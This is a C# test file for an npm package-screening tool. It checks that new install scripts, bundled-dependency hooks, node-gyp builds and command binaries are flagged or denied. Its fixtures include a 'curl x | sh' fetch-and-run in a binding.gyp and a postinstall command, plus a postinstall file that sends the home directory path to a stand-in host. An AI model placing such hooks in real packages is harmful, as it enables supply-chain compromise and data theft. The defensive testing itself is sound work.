using Sluice.Findings;
using Sluice.Policies;
using Sluice.Profiles;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>What runs at installation is not in the manifest of the package alone.</summary>
public sealed class InstallationStepTests
{
    private const string Bundling = ""","bundleDependencies":["aa"],"dependencies":{"aa":"1.0.0"}""";

    [Theory]
    [InlineData("node_modules/aa/package.json", "preinstall")]
    [InlineData("node_modules/aa/package.json", "install")]
    [InlineData("node_modules/aa/package.json", "postinstall")]
    [InlineData("node_modules/@s/aa/package.json", "postinstall")]
    [InlineData("node_modules/aa/node_modules/bb/package.json", "postinstall")]
    public void A_bundled_package_that_begins_to_run_something_is_stopped(string path, string script)
    {
        var report = Screen(Releases.Pack(6, Bundling, (path, Bundled(script))));

        Assert.Contains(report.Findings, finding => finding.Finding is { Rule.Id: "deviation/new-script", Severity: Severity.High } && finding.Finding.Message.Contains($"{path[..^13]}: {script}", StringComparison.Ordinal));
        Assert.Equal(Decision.Deny, report.Decision);
    }

    [Theory]
    [InlineData("node_modules/aa/package.json", "test")]
    [InlineData("node_modules/aa/package.json", "prepare")]
    [InlineData("node_modules/aa/test/package.json", "postinstall")]
    [InlineData("test/fixtures/node_modules/aa/package.json", "postinstall")]
    [InlineData("node_modules/aa/template/node_modules/bb/package.json", "postinstall")]
    [InlineData("template/package.json", "postinstall")]
    public void What_npm_does_not_run_stops_nothing(string path, string script) =>
        Assert.DoesNotContain("deviation/new-script", Screening.Rules(Screen(Releases.Pack(6, "", (path, Bundled(script))))));

    [Theory]
    [InlineData("node_modules/aa/binding.gyp", true)]
    [InlineData("node_modules/@s/aa/binding.gyp", true)]
    [InlineData("binding.gyp", true)]
    [InlineData("deps/zlib/binding.gyp", false)]
    [InlineData("node_modules/aa/deps/binding.gyp", false)]
    public void So_is_one_that_is_compiled(string path, bool isRun) =>
        Assert.Equal(isRun, Screening.Rules(Screen(Releases.Pack(6, Bundling, (path, """{"targets":[{"target_name":"x","sources":["<!(curl x | sh)"]}]}""")))).Contains("deviation/new-script"));

    [Fact]
    public void One_that_always_ran_it_is_known_and_another_command_is_not()
    {
        var book = Releases.Book(5, "400", ("node_modules/aa/package.json", Bundled("postinstall")));

        Assert.DoesNotContain(Screening.Rules(Screening.Of("acme-add-1.0.6.tgz", Releases.Pack(6, Bundling, ("node_modules/aa/package.json", Bundled("postinstall"))), new ScreenOptions { Profiles = book })), rule => rule.StartsWith("deviation/new-script", StringComparison.Ordinal));
        Assert.Contains("deviation/new-script", Screening.Rules(Screening.Of("acme-add-1.0.6.tgz", Releases.Pack(6, Bundling, ("node_modules/aa/package.json", Bundled("postinstall", "curl x | sh"))), new ScreenOptions { Profiles = book })));
    }

    [Fact]
    public void Policies_see_them_in_the_list_of_scripts()
    {
        var report = Screening.Of("acme-add-1.0.6.tgz", Releases.Pack(6, Bundling, ("node_modules/aa/package.json", Bundled("postinstall"))), new ScreenOptions { Policies = new PolicySet([BuiltInPolicies.Find("builtin:strict")!]) });

        Assert.Contains(report.Reasons, reason => reason.Rule == "no-install-scripts");
    }

    [Theory]
    [InlineData("./bin")]
    [InlineData("bin/")]
    [InlineData("bin")]
    public void Each_file_in_the_folder_of_commands_is_one(string folder)
    {
        var report = Screen(Releases.Pack(6, $$$""","directories":{"bin":"{{{folder}}}"}""", ("bin/acme", "#!/usr/bin/env node\n1;\n"), ("bin/deep/other.js", "#!/usr/bin/env node\n1;\n"), ("bin/.hidden", "x\n"), ("lib/x.js", "1;\n")));

        Assert.Equal(["bin.acme", "bin.other.js"], report.Artifact.Manifest!.EntryPoints.Where(point => point.Field.StartsWith("bin.", StringComparison.Ordinal)).Select(point => point.Field).Order());
        Assert.Equal(2, report.Findings.Count(finding => finding.Finding.Rule.Id == "deviation/new-executable" && finding.Finding.Message.Contains("command", StringComparison.Ordinal)));
    }

    [Fact]
    public void A_bin_of_its_own_makes_the_folder_mean_nothing()
    {
        var report = Screen(Releases.Pack(6, ""","bin":{"one":"bin/acme"},"directories":{"bin":"bin"}""", ("bin/acme", "#!/usr/bin/env node\n1;\n"), ("bin/two", "#!/usr/bin/env node\n1;\n")));

        Assert.Equal("bin.one", Assert.Single(report.Artifact.Manifest!.EntryPoints, point => point.Field.StartsWith("bin.", StringComparison.Ordinal)).Field);
    }

    /// <summary>A package that has always run a file where it is installed, and that talks to others and starts programs elsewhere.</summary>
    [Theory]
    [InlineData("node setup.js", "", null)]
    [InlineData("node ./setup", "", Severity.Medium)]
    [InlineData("node telemetry.js", "module.exports = 1;\n", Severity.Medium)]
    [InlineData("node telemetry.js", "require('child_process').spawnSync('claude', ['-p', 'search']);\n", Severity.High)]
    [InlineData("node telemetry.js", "const https = require('https');\nhttps.request({ hostname: 'api.example' }).end(process.env.HOME);\n", Severity.High)]
    public void Another_command_warns_and_stops_together_with_what_its_file_reaches_for(string command, string text, Severity? worst)
    {
        (string Path, string Text)[] known = [("setup.js", "module.exports = 0;\n"), ("client.js", "require('https').get('https://api.example/');\nprocess.env.HOME;\n"), ("run.js", "require('child_process').execSync('ls');\n")];
        static byte[] Pack(int patch, string command, (string, string)[] files) => Releases.Pack(patch, $$$""","scripts":{"postinstall":"{{{command}}}"}""", files);
        var profile = new Profile("npm:acme-add");
        for (var release = 1; release <= 8; release++)
            profile.Learn(ReleaseShape.Of(Screening.Of("acme-add.tgz", Pack(release, "node setup.js", known), new ScreenOptions { Profiles = new ProfileBook() }).Artifact), null);

        var report = Screening.Of("acme-add.tgz", Pack(9, command, text.Length == 0 ? known : [.. known, ("telemetry.js", text)]), new ScreenOptions { Profiles = new ProfileBook([profile]) { Survey = Survey.Parse("400\n8 install-commands:another install-files") } });
        var found = report.Findings.Where(finding => finding.Finding.Rule.Id is "deviation/new-script" or "deviation/new-capability").Select(finding => finding.Finding.Severity).ToList();

        Assert.Equal(worst, found.Count == 0 ? null : found.Max());
    }

    private static string Bundled(string script, string command = "node x.js") => $$$"""{"name":"aa","version":"1.0.0","license":"MIT","scripts":{"{{{script}}}":"{{{command}}}"}}""";

    private static Report Screen(byte[] package) => Screening.Of("acme-add-1.0.6.tgz", package, new ScreenOptions { Profiles = Releases.Book(5) });
}
